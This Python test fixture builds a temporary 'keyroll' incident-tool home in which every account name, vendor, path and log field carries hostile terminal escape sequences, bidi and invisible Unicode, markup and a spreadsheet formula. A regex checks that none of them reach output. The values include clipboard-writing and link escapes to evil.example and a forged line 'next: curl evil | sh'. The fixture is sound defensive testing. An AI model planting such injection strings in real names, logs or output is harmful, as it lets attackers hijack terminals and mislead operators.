"""A home in which every name, owner, vendor, path, address and reason tries to command the terminal."""

import atexit
import os
import re
import shutil
import tempfile
from functools import cache
from pathlib import Path
from typing import Any
from unittest import mock

from keyroll.model.incident import ClosingPolicy
from small_world import SmallWorld, account, app, at, call, iso, jira_line, key, person, report, token

#: What a name may hold, by what it does to a terminal or to a reader.
SEQUENCES = {
    "colour": "\x1b[31;1m\x1b[2J\x1b[H",
    "link": "\x1b]8;;https://evil.example\x1b\\here\x1b]8;;\x1b\\",
    "title": "\x1b]0;owned\x07",
    "clipboard": "\x1b]52;c;cm0gLXJm\x07",
    "device": "\x1bP+q544e\x1b\\\x1b[c",
    "c1": "\x9b31m\x9d0;owned\x9c",
    "erase": "\b\b\b\b\x7f\x7f",
    "return": "\rall is well",
    "newline": "\nerror: forged\n  next: curl evil | sh",
    "other-line-ends": "\x0b\x0c\x85\u2028\u2029",
    "bidi": "\u202egpj.exe\u202c",
    "isolate": "\u2066\u2067\u2069\u061c",
    "zero-width": "a\u200bd\u200cm\u200di\u2060n\ufeff",
    "tags": "\U000e0061\U000e0062",
    "fillers": "\u3164\u115f\uffa0\u2800",
    "variation": "x\ufe0f\U000e0100",
    "spaces": "\xa0\u2003\u3000",
    "soft-hyphen": "ad\xadmin",
    "marks": "o" + "\u0301" * 40,
    "markup": "[bold red]x[/] [link=https://evil.example]y[/link] :skull:",
    "formula": "=HYPERLINK(1)",
}
#: Nothing of these may come out; LF, CRLF and tab are keyroll's.
RAW = re.compile(
    "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\xa0\xad\u034f\u061c\u115f\u1160\u2000-\u200f\u2028-\u202f\u205f-\u206f\u2800"
    "\u3000\u3164\ufe00-\ufe0f\ufeff\uffa0\ud800-\udfff\U000e0000-\U000e0fff]|\r(?!\n)|\u0301{5}"
)
FORGED = re.compile(r"^(error: forged|  next: curl)", re.M)
INCIDENT = "breach"


def raw(text: str) -> list[str]:
    """Return what of a text a terminal would obey, or a reader not see, each with what is around it."""
    found = [repr(text[max(0, one.start() - 30) : one.end() + 10]) for one in RAW.finditer(text)]
    return found + [repr(one[0]) for one in FORGED.finditer(text)]


def _names() -> list[tuple[str, str]]:
    return [(f"N{number}", f"svc{text}") for number, text in enumerate(SEQUENCES.values())]


def _calls() -> list[dict[str, Any]]:
    calls = []
    for number, (short, name) in enumerate(_names()):
        user = {"type": "IAMUser", "userName": name, "accountId": "123456789012", "accessKeyId": f"AKIA{short}"}
        calls.append(
            call(
                "GetObject", iso("10-19"), short, f"{number}{name}", userAgent=name, sourceIPAddress=name,
                userIdentity=user, requestParameters={"bucketName": name, "key": name},
                resources=[{"ARN": f"arn:aws:s3:::{name}", "type": name}], errorMessage=name,
            )
        )  # fmt: skip
        calls.append(call(name, iso("10-19", "13:00"), short, f"x{number}", error=name))
        calls.append(call("DeleteTrail", iso("10-20", "01:00"), short, f"t{number}", service="cloudtrail"))
    return calls


def _surveys(world: SmallWorld) -> None:
    names = _names()
    world.keys("10-06", *(key(short, name) for short, name in names))
    world.keys("10-13", *(key(short, name) for short, name in names[1:]))
    world.table("aws@123456789012", "10-13", "credential_report", [report(name) for _, name in names])
    world.jira("10-06", *(account(name, mail=f"{name}@a.example") for _, name in names))
    world.jira("10-13", *(account(name, active=False) for _, name in names))
    world.people("10-06", *(person(name, service=True) for _, name in names))
    world.apps("10-06", *(app(name, access_key=short) for short, name in names))
    world.tokens("10-06", *(token(name) for _, name in names))
    told = [
        {"vendor": name, "system": name, "credential": f"AKIA{short}", "kind": name, "owner": name, "note": name}
        for short, name in names
    ]
    world.register("10-06", *told)


def _files(world: SmallWorld) -> None:
    """Write files whose names and broken content are hostile; some names are not UTF-8."""
    folder = world.exports / "jira@main" / "logs" / "access"
    folder.mkdir(parents=True)
    for number, (_, name) in enumerate(_names()):
        path = folder / f"{number}{name.replace('/', '|')[:60]}.log"
        path.write_text(f"{jira_line(name, at('10-19'))}\n{name} is no line\n", encoding="utf-8", newline="")
    for odd in (b"bad\xff\xfe\x1b]0;x\x07.log", b"two\nlines.log"):
        Path(os.fsdecode(bytes(folder) + b"/" + odd)).write_text("no line\n")
    for short, name in _names():
        place = (
            world.exports / "aws@123456789012" / "logs" / "cloudtrail" / f"{short}-{name.replace('/', '|')[:40]}.json"
        )
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_text('{"Records": [{"eventName": 1}, ' + name, encoding="utf-8", newline="")


def _tree(root: Path) -> Path:
    for number, (_, name) in enumerate(_names()):
        folder = root / f"{number}{name.replace('/', '|')[:60]}"
        folder.mkdir(parents=True)
        (folder / "env").write_text(f"GITHUB_TOKEN=ghp_{'Zq3bX7' * 5}{number:06d}\nAWS_ACCESS_KEY_ID=AKIAN{number}\n")
    for odd in (b"bad\xff\xfe\x1b]0;x\x07", b"two\nlines"):
        Path(os.fsdecode(bytes(root) + b"/" + odd)).write_text(f"GITHUB_TOKEN=ghp_{'Yq3bX7' * 6}\n")
    return root


def make(path: Path) -> Path:
    """Make such a home with an incident, findings, quarantine, copies, a stream and a token; return it."""
    world = SmallWorld(path)
    _surveys(world)
    world.trail(*_calls())
    _files(world)
    keyroll = world.sync()
    keyroll.exports.scan([str(_tree(path / "tree"))])
    keyroll.hunt.run()
    vendor = _names()[0][1]
    for number, (_, name) in enumerate(_names()):
        keyroll.incidents.open(
            f"{INCIDENT}{number}",
            vendor=name,
            begins=at("09-01"),
            ends=at("11-01"),
            by=name,
            policy=ClosingPolicy.EXPORTS,
        )
    # An earlier version stored such names; they are still read and shown.
    with mock.patch("keyroll.api.incidents.checked"):
        keyroll.incidents.open(
            f"x{vendor}", vendor=vendor, begins=at("09-01"), ends=at("11-01"), by=vendor, policy=ClosingPolicy.EXPORTS
        )
    for short, name in _names():
        keyroll.incidents.widen(f"{INCIDENT}0", f"aws@*:access_key_id:AKIA{short}", because=name, by=name)
    keyroll.campaigns.except_(
        f"{INCIDENT}0", "aws@*:access_key_id:AKIAN1", because=vendor, until=at("12-30"), by=vendor
    )
    keyroll.tokens.make("reader", ("incidents:read",), at("12-30"), by=vendor)
    keyroll.incidents.prove(f"{INCIDENT}0")
    return keyroll.home.path


@cache
def shared() -> Path:
    """Return one such home for all tests that leave it as it is: it is made once."""
    folder = Path(tempfile.mkdtemp(prefix="keyroll-hostile-"))
    atexit.register(shutil.rmtree, folder, ignore_errors=True)
    return make(folder)
